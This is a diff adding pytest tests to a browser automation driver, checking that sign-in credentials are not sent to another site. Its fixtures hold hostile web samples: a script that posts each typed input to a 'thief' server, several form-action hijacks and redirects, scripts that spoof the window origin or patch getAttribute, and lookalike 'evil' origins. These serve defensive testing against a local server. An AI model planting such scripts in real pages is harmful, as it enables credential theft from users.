@@ -2,14 +2,18 @@
 
 from __future__ import annotations
 
+from collections.abc import Iterator
+
 import pytest
 
 from robot_library.drivers.browser import BrowserDriver
-from robot_library.errors import SetupError, SignInFailed
+from robot_library.drivers.browser.window import origin_of
+from robot_library.errors import ApplicationException, SetupError, SignInFailed
 from robot_library.interfaces import Credential, OneTime
 from robot_library.model.bot import App
+from robot_library.model.screen import Locator
 from tests.drivers.conftest import Open, screens
-from tests.drivers.ward import PASSWORD, Ward
+from tests.drivers.ward import PASSWORD, Ward, served
 
 pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.browser]
 
@@ -55,6 +59,86 @@ async def test_a_one_time_code_is_not_typed_into_a_form_of_another_site(ward: Wa
     with pytest.raises(SignInFailed, match="does not belong to the site"):
         await driver.session("ehr", App(map="ward", url=ward.url), map_, Credential("bot", PASSWORD, OneTime(30, code)))
     assert (ward.sign_ins, made) == ([], [])
+
+
+FORM = """<h1>Ward sign-in</h1><form method=post action="{action}">{inside}<label>User <input name=user></label>
+<label>Word <input name=word type=password></label><button {button}>Enter</button></form>{below}"""
+TELLS = "<script>addEventListener('input', e => fetch('/tell', {method: 'POST', body: e.target.value}), true)</script>"
+
+
+def form(action: str = "/enter", inside: str = "", button: str = "", below: str = "") -> str:
+    return FORM.format(action=action, inside=inside, button=button, below=below)
+
+
+@pytest.fixture
+def thief() -> Iterator[Ward]:
+    with served(Ward(sign_in_page=form("/tell", below=TELLS))) as running:
+        yield running
+
+
+def on(event: str, name: str, does: str) -> str:
+    return f"<script>document.querySelector('[name={name}]').addEventListener('{event}', e => {{{does}}})</script>"
+
+
+LIES = """<script>const real = window;
+Object.defineProperty(document, 'defaultView', {get: () => new Proxy(real, {get: (it, key) => {
+  if (key === 'location') return {origin: 'OURS'};
+  const value = Reflect.get(it, key); return typeof value === 'function' ? value.bind(it) : value}})})</script>"""
+SWAPS = """<script>let looks = 0; const real = Element.prototype.getAttribute;
+Element.prototype.getAttribute = function (name) {
+  if (name === 'action' && this.tagName === 'FORM' && ++looks >= LOOKS) {
+    document.querySelectorAll('input').forEach(one => one.disabled = true); location.href = 'THEIRS/sign-in'}
+  return real.call(this, name)}</script>"""
+TRICKS = {
+    "formaction": form(button="formaction=THEIRS/tell"),
+    "formaction of another button": form(inside="<button hidden formaction=THEIRS/tell>x</button>"),
+    "base": "<base href=THEIRS>" + form("tell"),
+    "a name that hides the action": form("THEIRS/tell", inside="<input type=hidden name=action value=login>"),
+    "the action changes when the word is reached": form(below=on("focus", "word", "e.target.form.action='THEIRS/tell'")),
+    "the action changes when the word is typed": form(below=on("input", "word", "e.target.form.action='THEIRS/tell'")),
+    "another page once the name is typed": form(below=on("input", "user", "location.href='THEIRS/sign-in'")),
+    **{f"another page at look {n}": form(below=SWAPS.replace("LOOKS", str(n))) for n in (1, 2, 4)},
+}
+
+
+@pytest.mark.parametrize("trick", TRICKS)
+async def test_no_credential_leaves_for_another_site(ward: Ward, thief: Ward, enter: Open, trick: str) -> None:
+    ward.sign_in_page = TRICKS[trick].replace("THEIRS", thief.url)
+    with pytest.raises(ApplicationException):
+        await enter(screens())
+    assert [one for one in thief.told if PASSWORD in one] == []
+    assert ward.sign_ins == []
+
+
+async def test_a_frame_of_another_site_is_not_typed_into_whatever_it_says(
+    ward: Ward, thief: Ward, driver: BrowserDriver
+) -> None:
+    plain = screens()
+    targets = {
+        name: target.model_copy(update={"frame": Locator(css="iframe")})
+        for name, target in plain.screens["sign_in"].targets.items()
+    }
+    screen = plain.screens["sign_in"].model_copy(update={"targets": targets, "seen_by": (Locator(css="iframe"),)})
+    map_ = plain.model_copy(update={"screens": {**plain.screens, "sign_in": screen}})
+    thief.sign_in_page = LIES.replace("OURS", ward.url) + form("", below=TELLS)
+    ward.sign_in_page = f"<iframe src={thief.url}/sign-in></iframe>"
+    with pytest.raises(SignInFailed, match="does not belong to the site"):
+        await driver.session("ehr", App(map="ward", url=ward.url), map_, Credential("bot", PASSWORD))
+    assert thief.told == []
+
+
+async def test_a_form_with_an_input_called_action_can_be_signed_in_to(ward: Ward, enter: Open) -> None:
+    ward.sign_in_page = form(inside="<input type=hidden name=action value=login>")
+    await (await enter(screens())).open("home", {})
+    assert ward.sign_ins == ["bot"]
+
+
+async def test_an_origin_is_written_as_browsers_write_it() -> None:
+    assert origin_of("https://EHR.example:443/a") == origin_of("https://ehr.example") == "https://ehr.example"
+    assert origin_of("http://ehr.example:80") == "http://ehr.example"
+    others = ["http://ehr.example", "https://ehr.example:80", "https://ehr.example:4430", "https://a@ehr.example",
+              "https://ehr.example.evil", "https://ehr\u0435.example", "https://ehr.example@evil"]  # fmt: skip
+    assert not [one for one in others if origin_of(one) == "https://ehr.example"]
 
 
 async def test_http_basic_is_sent_to_its_origin_and_refused_once(ward: Ward, driver: BrowserDriver) -> None:
